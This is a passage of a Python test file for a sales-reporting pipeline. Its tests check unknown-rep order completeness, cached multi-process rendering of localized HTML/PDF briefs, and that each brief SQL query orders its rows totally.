    assert region_item.locale_paths["zh-CN"]["pdf"].name == f"{region}_2026-02_月度复盘.zh-CN.pdf"


def test_completeness_lists_orders_of_unknown_reps(con, warehouse):
    period = D.Period.month(MONTH)
    orders = D.unknown_rep_orders(con, period, AS_OF)
    expected = con.execute(
        "select count(*), coalesce(sum(amount), 0) from marts.fct_orders where team_id is null"
        " and not is_cancelled and signed_date between ? and ?",
        [period.start, period.end],
    ).fetchone()
    assert (len(orders), sum(float(o["amount"]) for o in orders)) == (expected[0], float(expected[1]))
    brief = render_monthly(D.load_monthly(con, D.company_scope(), MONTH), Locale("en"), GENERATED)
    assert "Orders left out (owner not in the roster)" in brief.html
    for order in orders:
        assert order["order_id"] in brief.html


def test_briefs_render_in_worker_processes_and_unchanged_ones_are_not_rendered_again(warehouse, tmp_path):
    common = {
        "kind": "weekly",
        "start": WEEK,
        "marts": MartsSource.duckdb(warehouse["path"]),
        "briefs_dir": tmp_path / "briefs",
        "outbox_dir": tmp_path / "outbox",
        "locale": "zh-CN",
        "as_of": AS_OF,
        "smtp": None,
        "send": False,
    }
    first = publish_period(**common, workers=2)
    assert len(first.published) >= 2
    assert not any("cached" in item.timings for item in first.published)
    pdfs = {item.paths["pdf"]: item.paths["pdf"].read_bytes() for item in first.published}
    assert all(pdf.startswith(b"%PDF") for pdf in pdfs.values())
    again = publish_period(**common, workers=2)
    assert all(item.timings.get("cached") for item in again.published), "same inputs: read from the cache"
    assert [i.brief.key_figures for i in again.published] == [i.brief.key_figures for i in first.published]
    assert {path: path.read_bytes() for path in pdfs} == pdfs, "cached: files left as they were"
    # What a published brief keeps in memory is its summary; its content is in its files.
    assert all(not i.brief.html and not i.brief.sections and i.brief.key_figures for i in first.published)
    assert all("<html" in i.paths["html"].read_text(encoding="utf-8").lower() for i in first.published)
    # Other inputs (here the readers' language): rendered again, in one process as well.
    changed = publish_period(**{**common, "locale": "en"}, workers=1)
    assert not any("cached" in item.timings for item in changed.published)
    assert all(item.paths["pdf"].name.endswith(".en.pdf") for item in changed.published)


def _order_keys(sql: str) -> list[str]:
    """The column names of a query's final ORDER BY (qualifiers, directions and nulls dropped)."""
    clause = re.split(r"\border by\b", sql, flags=re.IGNORECASE)[-1]
    keys = []
    for term in clause.split(","):
        words = re.sub(r"\b(asc|desc|nulls first|nulls last)\b", "", term, flags=re.IGNORECASE).split()
        keys.append(words[0].rsplit(".", 1)[-1])
    return keys


def test_every_ordered_brief_query_orders_its_rows_totally(con, monkeypatch):
    """Rows come back in any order unless ordered, and tied rows in any order (threads, storage
    layout); the render cache is keyed by the loaded rows (lists and dicts, in load order). So a
    brief query that can return several rows orders them by a key of its result."""
    seen: dict[str, list[dict]] = {}
    real_query = D.query

    def recording(connection, name, params=None, **idents):
        rows = real_query(connection, name, params, **idents)
        seen.setdefault(name, []).append(rows)
        return rows

    monkeypatch.setattr(D, "query", recording)
    for kind, start in ((KINDS["daily"], AS_OF), (KINDS["weekly"], WEEK), (KINDS["monthly"], MONTH)):
        for scope in kind.scopes_of(con, kind.period(start)):
            kind.load(con, scope, start)
            D.recipients(con, scope, AS_OF)
    assert {"anomalies", "submissions", "product_share", "reps_in_period", "pipeline_due"} <= seen.keys()
    for name in sorted(seen):
        if not re.search(r"\border by\b", D._sql_text(name), flags=re.IGNORECASE):
            assert max(len(rows) for rows in seen[name]) <= 1, f"{name}.sql returns rows in no set order"
            continue
        keys = _order_keys(D._sql_text(name))
        for rows in seen[name]:
            assert all(key in row for row in rows for key in keys), (name, keys)
            tuples = [tuple(row[key] for key in keys) for row in rows]
            assert len(set(tuples)) == len(tuples), f"{name}.sql: rows tie on its ORDER BY {keys}"
